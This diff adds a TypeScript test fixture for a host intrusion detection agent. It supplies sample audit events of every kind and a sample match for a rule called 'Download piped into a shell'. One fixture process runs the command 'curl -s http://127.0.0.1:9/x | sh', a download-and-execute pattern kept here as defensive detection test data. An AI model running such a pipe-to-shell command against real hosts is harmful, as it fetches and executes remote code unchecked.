@@ -1,0 +1,193 @@
+// One event of every kind, as the pipeline gives them, and a match: a table over Kind, so that none can be forgotten.
+
+import type { AnyEvent, Credentials, Kind, Process, ProcessImage, RecordView } from '../../src/core/event.ts';
+import type { Match } from '../../src/core/match.ts';
+import { type EcsContext, type EcsOptions, ecsContext } from '../../src/output/ecs/context.ts';
+
+export const OPTIONS: EcsOptions = {
+  host: { id: '0123456789abcdef0123456789abcdef', name: 'web1.example.org', hostname: 'web1', architecture: 'x86_64' },
+  agent: { id: 'agent-1', version: '0.1.0' },
+  labels: { site: 'berlin' },
+};
+
+export function context(options: Partial<EcsOptions> = {}): EcsContext {
+  return ecsContext({ ...OPTIONS, ...options });
+}
+
+const alice: Credentials = {
+  uid: { id: 1000, name: 'alice' },
+  euid: { id: 0, name: 'root' },
+  suid: { id: 0, name: 'root' },
+  fsuid: { id: 0, name: 'root' },
+  gid: { id: 1000, name: 'alice' },
+  egid: { id: 1000, name: 'alice' },
+  sgid: { id: 1000 },
+  fsgid: { id: 1000 },
+};
+
+export const curl: ProcessImage = {
+  pid: 4243,
+  entitySeed: '4243:1700000000.123:77',
+  executable: '/usr/bin/curl',
+  invoked: ['/usr/bin/curl'],
+  comm: 'curl',
+  args: ['curl', '-s', '', 'http://127.0.0.1:9/x'],
+  argsCount: 4,
+  commandLine: 'curl -s  http://127.0.0.1:9/x',
+  cwd: '/home/alice',
+  startMs: 1_700_000_000_123,
+  tty: 'pts/0',
+  credentials: alice,
+  login: { auid: { id: 1000, name: 'alice' }, session: 3, terminal: 'pts/0', address: '192.0.2.7' },
+  origin: 'audit',
+};
+
+export const shell: ProcessImage = {
+  pid: 4242,
+  entitySeed: '4242@boot/1234',
+  executable: '/usr/bin/dash',
+  args: ['sh', '-c', 'curl -s http://127.0.0.1:9/x | sh'],
+  argsCount: 3,
+  commandLine: 'sh -c curl -s http://127.0.0.1:9/x | sh',
+  cwd: '/home/alice',
+  credentials: alice,
+  foreignRoot: true,
+  origin: 'proc',
+};
+
+export const init: ProcessImage = {
+  pid: 1,
+  entitySeed: '1@boot/2',
+  executable: '/usr/lib/systemd/systemd',
+  origin: 'proc',
+};
+
+export const process: Process = { image: curl, ancestors: [shell, init], parentPid: 4242 };
+
+export function record(type: string, fields: Record<string, string>): RecordView {
+  return { type, get: name => fields[name], entries: () => Object.entries(fields) };
+}
+
+const base = {
+  module: 'audit',
+  timeMs: 1_700_000_000_123,
+  createdMs: 1_700_000_000_456,
+  stamp: '1700000000.123:77',
+  ordinal: 0,
+  sequence: 77,
+  warnings: [],
+} as const;
+
+const own = { ...base, module: 'agent', stamp: '1700000000.123', message: 'as it should be' } as const;
+const account = {
+  ...base,
+  process,
+  target: { name: 'bob', id: 1001 },
+  address: '192.0.2.7',
+  terminal: 'ssh',
+  outcome: 'success',
+} as const;
+const net = {
+  ...base,
+  process,
+  source: { ip: '192.0.2.1', port: 40000 },
+  destination: { ip: '2001:db8::1', port: 443, domain: 'example.org' },
+  family: 'ipv6',
+  transport: 'tcp',
+} as const;
+
+type SampleOf<K extends Kind> = AnyEvent & { readonly kind: K };
+
+export const SAMPLES: { readonly [K in Kind]: SampleOf<K> } = {
+  exec: {
+    ...base,
+    kind: 'exec',
+    process,
+    outcome: 'success',
+    records: [
+      record('SYSCALL', { arch: 'x86_64', syscall: 'execve', exe: '/usr/bin/curl' }),
+      record('EXECVE', { argc: '4', a0: 'curl', a1: '-s', __proto__x: 'y' }),
+    ],
+  },
+  exec_failed: {
+    ...base,
+    kind: 'exec_failed',
+    process,
+    target: '/nonexistent',
+    outcome: 'failure',
+    errorCode: 'ENOENT',
+  },
+  exit: { ...base, kind: 'exit', process, exitCode: 3 },
+  connect: { ...net, kind: 'connect', outcome: 'failure', errorCode: 'ECONNREFUSED', via: 'io_uring' },
+  accept: { ...net, kind: 'accept', outcome: 'success' },
+  bind: { ...net, kind: 'bind', outcome: 'success' },
+  listen: { ...base, kind: 'listen', process, outcome: 'unknown' },
+  root_changed: { ...base, kind: 'root_changed', process },
+  namespace_entered: { ...base, kind: 'namespace_entered', process },
+  audit_config_changed: { ...base, kind: 'audit_config_changed' },
+  logged_in: { ...account, kind: 'logged_in' },
+  login_failed: { ...account, kind: 'login_failed', outcome: 'failure', address: 'host.example.org' },
+  session_opened: { ...account, kind: 'session_opened' },
+  session_closed: { ...account, kind: 'session_closed' },
+  sudo_command: { ...account, kind: 'sudo_command' },
+  user_added: { ...account, kind: 'user_added' },
+  user_deleted: { ...account, kind: 'user_deleted' },
+  group_changed: { ...account, kind: 'group_changed' },
+  password_changed: { ...account, kind: 'password_changed' },
+  service_started: { ...base, kind: 'service_started', service: 'ssh' },
+  service_stopped: { ...base, kind: 'service_stopped', service: 'ssh' },
+  host_booted: { ...base, kind: 'host_booted' },
+  host_stopping: { ...base, kind: 'host_stopping' },
+  anomaly: { ...base, kind: 'anomaly', process },
+  audit_event: { ...base, kind: 'audit_event' },
+  agent_started: {
+    ...own,
+    kind: 'agent_started',
+    details: { mode: 'own', sources: ['audit'], unseen: null, deep: { a: { b: 1 } } },
+  },
+  agent_stopped: { ...own, kind: 'agent_stopped' },
+  rules_loaded: { ...own, kind: 'rules_loaded', details: { rules: 142 } },
+  rule_rejected: { ...own, kind: 'rule_rejected', details: { file: 'a.yml', line: 3, message: 'unknown modifier' } },
+  source_down: { ...own, kind: 'source_down', details: { source: 'audit' } },
+  source_up: { ...own, kind: 'source_up', details: { source: 'audit' } },
+  loss: {
+    ...own,
+    kind: 'loss',
+    loss: {
+      source: 'audit',
+      reason: 'socket',
+      count: 12,
+      unit: 'events',
+      upperBound: false,
+      fromMs: 1_700_000_000_000,
+      toMs: 1_700_000_001_000,
+      heaviest: { uid: 1000, executable: '/usr/bin/curl', bytes: 12345 },
+    },
+  },
+  heartbeat: { ...own, kind: 'heartbeat', counters: { audit: { events: 12, lost: 0 }, output: { written: 3 } } },
+};
+
+export const MATCH: Match = {
+  rule: {
+    id: '8f3f4d24-b1a1-4d5a-9c0a-1f2e3d4c5b6a',
+    title: 'Download piped into a shell',
+    description: 'A download is run at once.',
+    authors: ['The puppy-hids authors'],
+    reference: 'https://attack.mitre.org/techniques/T1059/004/',
+    license: 'Apache-2.0',
+    level: 'high',
+    file: 'rules.d/exec.yml',
+    version: '2026-01-01',
+    tags: [
+      'attack.execution',
+      'attack.t1059.004',
+      'attack.command_and_control',
+      'attack.t1105',
+      'attack.g0020',
+      'cve.2021-44228',
+    ],
+  },
+  conditions: [
+    { selection: 'selection', field: 'CommandLine', modifier: 'contains', pattern: 'http', value: curl.commandLine! },
+  ],
+};
